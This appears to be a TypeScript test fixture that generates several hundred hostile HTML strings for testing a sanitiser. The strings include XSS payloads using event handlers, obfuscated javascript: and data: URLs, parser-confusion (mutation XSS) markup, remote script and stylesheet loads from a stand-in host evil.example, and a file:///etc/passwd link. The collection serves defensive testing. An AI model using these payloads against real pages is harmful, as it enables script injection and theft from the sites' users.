const call = 'alert(1)';

const elements = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video src=x',
  'details open',
  'input',
  'marquee',
  'p',
  'a href=/',
  'strong',
  'math',
];
const handlers = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
const handled = elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}="${call}">x`));

const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script/x>${call}</script >`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script type="module">import("//evil.example/x.js")</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}"/></svg>`,
  `</p></div></main><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `<!--<script>--><script>${call}</script>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  '<style>@import "//evil.example/x.css";p{background:url(//evil.example/x)}</style>',
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${call}" popovertarget=x>x</button>`,
];

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `java\nscript:${call}`,
  `java\tscript:${call}`,
  `java&#10;script:${call}`,
  `java&Tab;script:${call}`,
  `&#106;avascript&colon;${call}`,
  `&#x6A&#x61vascript:${call}`,
  `\\javascript:${call}`,
  `javascript&#0;:${call}`,
  `javascript://%0a${call}`,
  `https:javascript:${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `blob:https://evil.example/x`,
  `file:///etc/passwd`,
  `view-source:https://evil.example`,
  `//evil.example`,
  `/\\evil.example`,
  `\\\\evil.example`,
  `/\t/evil.example`,
  `feed:javascript:${call}`,
];
const links = addresses.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<a href='${address}' target=_blank ping="//evil.example">x</a>`,
  `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
]);

/** Markup that one parser reads as text and another as elements. */
const confused = [
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<p><noscript></p><img src=x onerror=${call}></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=${call}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${call}>"></title>`,
  `<template><p title="</template><img src=x onerror=${call}>"></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x onerror=${call} src>">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--!><img src=x onerror=${call}>-->`,
  `<!-- --!><img src=x onerror=${call}>`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml <img src=x onerror=${call}>?>`,
  `<p/onclick=${call}>x`,
  `<p title="x" onclick = ${call} x>y`,
  `<p title='"' onclick='${call}'>x`,
  `<p "onclick=${call}">x`,
  `<a href="/x" href="javascript:${call}">x</a>`,
  `<a href="/&quot; onclick=&quot;${call}">x</a>`,
  `<strong style="background:url(//evil.example/x)">x</strong>`,
  `<li value=1 style="position:fixed;inset:0">x</li>`,
  `<h3 id="main" class="edit__badge">x</h3>`,
  `<p contenteditable is="x-y" slot=x part=x>x</p>`,
  `<img src=x onerror\u000c=${call}>`,
  `<img\u00a0src=x onerror=${call}>`,
  `<ıframe src=javascript:${call}>`,
  `&lt;img src=x onerror=${call}&gt; <em>x</em>`,
  `&amp;lt;script&amp;gt;${call} <em>x</em>`,
  `<em>\${${call}} {{${call}}} <%= ${call} %></em>`,
  `<em>__html constructor prototype</em>`,
];

const places = [
  (text: string) => text,
  (text: string) => `<p>before ${text} after</p>`,
  (text: string) => `<ul><li><strong>${text}</strong></li></ul>`,
];

/** A few hundred texts that would run scripts, call another site or break the page if they were not cleaned. */
export const hostileMarkup: readonly string[] = [
  ...handled,
  ...[...scripts, ...links, ...confused].flatMap((text) => places.map((put) => put(text))),
];
